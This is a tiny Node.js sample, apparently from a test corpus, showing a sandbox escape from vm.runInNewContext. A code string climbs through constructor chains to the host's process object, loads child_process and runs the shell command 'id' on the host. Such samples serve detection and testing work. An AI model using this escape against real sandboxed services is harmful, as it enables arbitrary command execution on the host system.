// corpus: vm.runInNewContext with code that climbs to the host's process via constructor chains
const vm = require('vm');

const code = "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()";
console.log(vm.runInNewContext(code, {}));
